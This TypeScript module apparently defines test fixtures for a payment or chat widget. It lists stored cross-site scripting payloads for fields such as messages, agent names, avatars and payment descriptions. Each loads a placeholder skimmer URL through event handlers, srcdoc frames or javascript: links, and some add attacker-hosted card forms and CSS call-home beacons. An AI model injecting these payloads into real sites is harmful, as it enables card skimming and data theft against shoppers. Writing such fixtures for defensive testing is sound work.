/**
 * Markup and script in each text that whoever holds the server, the database or an agent's account may
 * choose. `URL` is the address of a skimmer, which the markup would load.
 */
import type { FieldAttack, Held } from '../attack.ts';

const IMG = '<img src=x onerror=import("URL")>';
const SVG = '<svg><animate onbegin=import("URL") attributeName=x dur=1s></svg>';

const text = (
  id: string,
  field: string,
  tries: string,
  payload = IMG,
  held: Held = 'server',
): FieldAttack => ({
  kind: 'field',
  family: 'text',
  held,
  id: `text-${id}`,
  field,
  tries,
  payload,
});
const inMessage = (id: string, tries: string, payload: string) =>
  text(id, 'message', `${tries} in a message`, payload, 'agent');

export const FIELD_ATTACKS: readonly FieldAttack[] = [
  inMessage('msg', 'a picture that fails', `Hello ${IMG}`),
  inMessage('msg-svg', 'an SVG that loads', `Hello ${SVG}`),
  inMessage(
    'msg-srcdoc',
    'a frame with a document',
    `<iframe srcdoc='<script>parent.eval("import(\\"URL\\")")</script>'></iframe>`,
  ),
  inMessage(
    'msg-focus',
    'a field that takes the focus',
    `<input autofocus onfocus='import("URL")'>`,
  ),
  inMessage(
    'msg-details',
    'an element that opens by itself',
    `<details open ontoggle='import("URL")'>x</details>`,
  ),
  inMessage(
    'msg-style',
    'an animation that starts',
    `<style>@keyframes d{}</style><i style="animation:d 1s" onanimationstart='import("URL")'>x</i>`,
  ),
  inMessage('msg-media', 'a sound that fails', `<audio src=x onerror='import("URL")'></audio>`),
  inMessage(
    'msg-link',
    'a link with a script for an address',
    `[Your parcel](javascript:void(import('URL')))`,
  ),
  inMessage(
    'msg-frame',
    "a frame from the attacker's host, to ask for the card",
    `<iframe src="URL/page"></iframe>`,
  ),
  inMessage(
    'msg-form',
    "a card form that goes to the attacker's host",
    `<form action="URL/form"><input name=n autofocus></form><img src="URL/seen.png">`,
  ),
  inMessage(
    'msg-css',
    'a style sheet that calls home',
    `<style>#widget{background:url(URL/c.png)}</style>`,
  ),
  text('agent', 'author', "in an agent's name"),
  text(
    'avatar',
    'avatar',
    "in the address of an agent's picture",
    `x" onerror='import("URL")' data-more="`,
  ),
  text('site', 'siteName', "in the shop's name"),
  text('greet', 'greeting', 'in the greeting', SVG),
  text('colour', 'color', 'in the colour', 'red;background:url(URL/c.png)'),
  text('what', 'description', 'in what a payment is for'),
  text('lines', 'lineItem', 'in the lines of a payment'),
  text('why', 'reason', 'in why a payment failed'),
  text('ref', 'reference', "in a payment's reference", SVG),
  text('brand', 'brand', "in the card's brand", SVG),
  text('dispute', 'dispute', 'in the reason of a dispute', SVG),
  text('refusal', 'refusal', 'in the words of a refusal'),
];
